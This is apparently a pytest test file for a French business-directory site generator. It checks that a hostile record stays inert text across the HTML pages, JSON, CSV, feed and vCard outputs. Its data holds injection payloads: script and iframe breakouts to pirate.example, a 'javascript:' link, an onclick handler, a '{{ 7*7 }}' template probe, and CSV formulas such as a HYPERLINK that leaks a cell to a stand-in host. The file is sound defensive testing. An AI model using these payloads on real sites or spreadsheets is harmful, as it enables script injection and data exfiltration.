"""A record whose every field attacks is shown as plain text, in every file of the site."""

from __future__ import annotations

import csv
import json
import re
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from functools import lru_cache
from pathlib import Path
from typing import Any
from urllib.parse import urljoin

import pytest
from tests.documents import Document, read
from tests.sites import Project

from annuaire.yamlfile import source

SLUG = "exemple-hostile"
PROFILE = f"entreprises/{SLUG}/"
DATA_TAGS = {"application/ld+json"}
RISKY = re.compile(r"[=+\-@\t]")
NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
CODE = re.compile(r"[a-z0-9\-]*|\d{4}-\d\d-\d\d")  # a page has words for these
OTHERWISE = ("neq", "anciens_slugs", "site_web", "reseaux", "description")  # shown in another form
ATOM = "{http://www.w3.org/2005/Atom}"
PROPERTIES = {
    "BEGIN", "VERSION", "N", "FN", "ORG", "X-ABSHOWAS", "ADR", "TEL", "EMAIL", "URL", "GEO", "CATEGORIES",
    "NOTE", "END",
}  # fmt: skip


@lru_cache(maxsize=1)
def record(path: Path) -> dict[str, Any]:
    """Read the hostile record as the texts it holds."""
    return source.read(path).values


def texts(value: Any) -> Iterator[str]:
    """Yield every text of a record, lists and mappings walked."""
    if isinstance(value, str):
        yield value
    else:
        for item in value.values() if isinstance(value, dict) else value:
            yield from texts(item)


@pytest.fixture(scope="module")
def values(example: Project) -> dict[str, Any]:
    """Give the hostile record."""
    return record(example.record(SLUG))


PICTURE = re.compile(r"^/entreprises/[a-z0-9-]+/images/[a-z0-9-]+\.(?:jpg|png)$")  # written by the program


def holding(project: Project) -> dict[str, Document]:
    """List the pages that show something of the hostile record."""
    return {url: read(path) for url, path in project.pages().items() if "pirate" in path.read_text(encoding="utf-8")}


def folded(text: str) -> str:
    """Leave aside what a page may change in a text: its first capital, its spaces."""
    return " ".join(text.split()).lower()


def test_record_shows_on_every_kind_of_page(example: Project) -> None:
    found = holding(example)
    for url in (
        PROFILE, "entreprises/", "territoires/exempleville/", "territoires/exempleville/secteurs/arts-culture/",
        "secteurs/arts-culture/", "formes/obnl/", "entreprises/exemple-hostile-avant/",
    ):  # fmt: skip
        assert url in found, f"the hostile record is not on /{url}"
    assert len(found) > 12


def test_pages_gain_no_element_that_acts(example: Project) -> None:
    for url, page in holding(example).items():
        assert not page.unbalanced, url
        for element in page.elements:
            assert element.tag not in {"iframe", "object", "embed", "math", "base", "marquee"}, url
            assert element.tag != "img" or PICTURE.search(urljoin(f"/{url}", element.attributes["src"])), url
            for name, value in element.attributes.items():
                assert not name.startswith("on"), f"{url}: {element}"
                if name in ("href", "src", "action"):
                    scheme = re.match(r"[a-z][a-z0-9+.\-]*:", value.strip().lower())
                    assert scheme is None or scheme[0] in ("https:", "http:", "mailto:", "tel:"), f"{url}: {value}"
        assert not [e for e in page.all("style") if "display:none" in e.text]
        assert not page.all("link", href="https://pirate.example/x.css")


def test_pages_hold_no_script_of_the_record(example: Project) -> None:
    usual = read(example.pages()["entreprises/exemplaire/"])
    allowed = {e.text for e in usual.all("script") if e.attributes.get("type") not in DATA_TAGS}
    for url, page in holding(example).items():
        for script in page.all("script"):
            if script.attributes.get("type") not in DATA_TAGS and "src" not in script.attributes:
                assert script.text in allowed, url


def test_profile_shows_every_text_as_written(example: Project, values: dict[str, Any]) -> None:
    page = read(example.pages()[PROFILE])
    assert page.title.startswith(values["nom"] + " – ")
    assert page.one("h1").text == values["nom"]
    seen = page.text
    shown = {key: value for key, value in values.items() if key not in OTHERWISE}
    shown["offres"] = [{key: value for key, value in values["offres"][0].items() if key != "verification"}]
    main, other = values["etablissements"]  # the main place goes by the enterprise's own name
    shown["etablissements"] = [{**main, "nom": "", "latitude": "", "longitude": ""}, other]
    for text in texts(shown):
        if not CODE.fullmatch(text):
            assert folded(text) in folded(seen), text


def test_description_shows_what_markdown_leaves(example: Project) -> None:
    seen = read(example.pages()[PROFILE]).text
    for text in (
        '</div></article></main><script>window.pirate=3</script><iframe src="https://pirate.example/"></iframe>',
        "[clic](javascript:window.pirate=4)",
        '<!--annuaire:contenu--> <meta name="annuaire" content="tete"> ANNUAIRE-TITRE ANNUAIRE-MISE-A-JOUR',
        "{% endraw %} {{ 7*7 }}",
        "gras <b onclick=window.pirate=5>x</b>",
    ):
        assert text in seen


def test_template_marks_stay_text(example: Project) -> None:
    for url, page in holding(example).items():
        assert "49 " not in page.one("h1").text, url
        assert not [c for c in page.comments if "annuaire:contenu" in c], url
        assert not page.all("meta", name="annuaire"), url
    raw = example.pages()[PROFILE].read_text(encoding="utf-8")
    assert raw.count("<article>") == 1  # the content stands once, where the shell wants it


def test_head_says_the_name_as_written(example: Project, values: dict[str, Any]) -> None:
    page = read(example.pages()[PROFILE])
    assert page.meta("og:title") == values["nom"]
    assert page.meta("description").startswith('=HYPERLINK("https://pirate.example/?"&A1,"clic") </script><script>')
    assert page.meta("og:description") == page.meta("description")
    assert page.one("link", rel="canonical").attributes["href"] == f"https://repertoire.example.org/{PROFILE}"


def test_json_ld_equals_the_record(example: Project, values: dict[str, Any]) -> None:
    enterprise, crumbs = read(example.pages()[PROFILE]).data
    assert enterprise["name"] == values["nom"]
    assert enterprise["description"] == values["mission"]
    assert enterprise["url"] == values["site_web"]
    assert enterprise["address"][0]["streetAddress"] == values["etablissements"][0]["adresse"]
    assert enterprise["makesOffer"][0]["itemOffered"]["name"] == values["offres"][0]["nom"]
    assert crumbs["itemListElement"][-1]["name"] == values["nom"]


def test_json_equals_the_record(example: Project, values: dict[str, Any]) -> None:
    data = json.loads((example.site / "donnees" / "entreprises.json").read_text(encoding="utf-8"))
    own = next(e for e in data["entreprises"] if e["entreprise"] == SLUG)
    assert own.pop("entreprise") == SLUG

    def plain(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: plain(item) for key, item in value.items()}
        return [plain(item) for item in value] if isinstance(value, list) else str(value)

    expected = {**values, "etablissements": [dict(place) for place in values["etablissements"]]}
    expected["etablissements"][0]["latitude"] = "49.4418"  # a number in JSON
    assert plain(own) == expected


def test_csv_cells_run_nothing(example: Project, values: dict[str, Any]) -> None:
    for path in sorted((example.site / "donnees").glob("*.csv")):
        with path.open(encoding="utf-8-sig", newline="") as file:
            delimiter = ";" if path.stem in ("entreprises-excel", "lacunes") else ","
            for row in csv.reader(file, delimiter=delimiter):
                for cell in row:
                    assert not RISKY.match(cell) or NUMBER.fullmatch(cell), f"{path.name}: {cell}"
    with (example.site / "donnees" / "entreprises.csv").open(encoding="utf-8", newline="") as file:
        own = next(row for row in csv.DictReader(file) if row["entreprise"] == SLUG)
    assert own["nom"] == values["nom"]
    assert own["mission"] == "'" + values["mission"]
    assert own["contact_achats_courriel"] == "'+cmd@pirate.example"


def test_feed_is_well_formed_and_plain(example: Project, values: dict[str, Any]) -> None:
    root = ET.fromstring((example.site / "donnees" / "nouveautes.xml").read_bytes())  # noqa: S314 - our own file
    titles = [entry.findtext(f"{ATOM}title") or "" for entry in root.iter(f"{ATOM}entry")]
    assert titles == ["77\u00a0fiches nouvelles d’un coup"]
    summaries = [e.findtext(f"{ATOM}summary") or "" for e in root.iter(f"{ATOM}entry")]
    assert summaries[0].endswith("autres.")
    assert not [e for e in root.iter() if not e.tag.startswith(ATOM)]


def test_vcard_gains_no_line(example: Project, values: dict[str, Any]) -> None:
    raw = (example.site / PROFILE / f"{SLUG}.vcf").read_bytes().decode("utf-8")
    assert raw.endswith("\r\n")
    lines = raw.removesuffix("\r\n").replace("\r\n ", "").split("\r\n")
    assert "\n" not in "".join(lines)
    assert {re.split("[:;]", line)[0] for line in lines} <= PROPERTIES
    assert [line for line in lines if line.startswith(("BEGIN", "END"))] == ["BEGIN:VCARD", "END:VCARD"]
    cards = dict(line.split(":", 1) for line in lines if line.startswith(("FN:", "NOTE:")))

    def unescape(text: str) -> str:
        return re.sub(r"\\(.)", lambda m: "\n" if m[1] == "n" else m[1], text)

    assert unescape(cards["FN"]) == values["nom"]
    assert unescape(cards["NOTE"]) == values["mission"]


def test_sitemap_and_points_hold_it_plainly(example: Project, values: dict[str, Any]) -> None:
    locations = [e.text for e in ET.fromstring((example.site / "sitemap.xml").read_bytes()).iter() if e.text]  # noqa: S314
    assert f"https://repertoire.example.org/{PROFILE}" in locations
    points = json.loads((example.site / "donnees" / "entreprises.geojson").read_text(encoding="utf-8"))
    own = next(f for f in points["features"] if f["id"] == f"{SLUG}/1")
    assert own["properties"]["nom"] == values["nom"]


def test_old_address_leads_to_the_profile(example: Project, values: dict[str, Any]) -> None:
    page = read(example.pages()["entreprises/exemple-hostile-avant/"])
    assert page.one("h1").text == values["nom"]
    assert page.one("meta", http_equiv="refresh").attributes["content"] == f"0; url=../../{PROFILE}"


def test_left_out_record_quotes_no_value(example: Project, project: Project) -> None:
    """A wrong value, hostile or private, does not go on « Données »: the field and the code say enough."""
    wrong = (
        example.record(SLUG)
        .read_text(encoding="utf-8")
        .replace("secteur: arts-culture", 'secteur: "<script>window.pirate=1</script>"')
    )
    project.record(SLUG).write_text(wrong, encoding="utf-8")
    project.commit()
    summary = project.build(skip_invalid=True)
    assert [p.code for p in summary.left_out] == ["secteur-inconnu"]
    page = read(project.pages()["donnees/"])
    assert "secteur\u00a0: secteur-inconnu" in page.text
    assert "pirate=1" not in page.text
    assert not [e for e in page.all("script") if "pirate" in e.text]
    assert PROFILE not in project.pages()
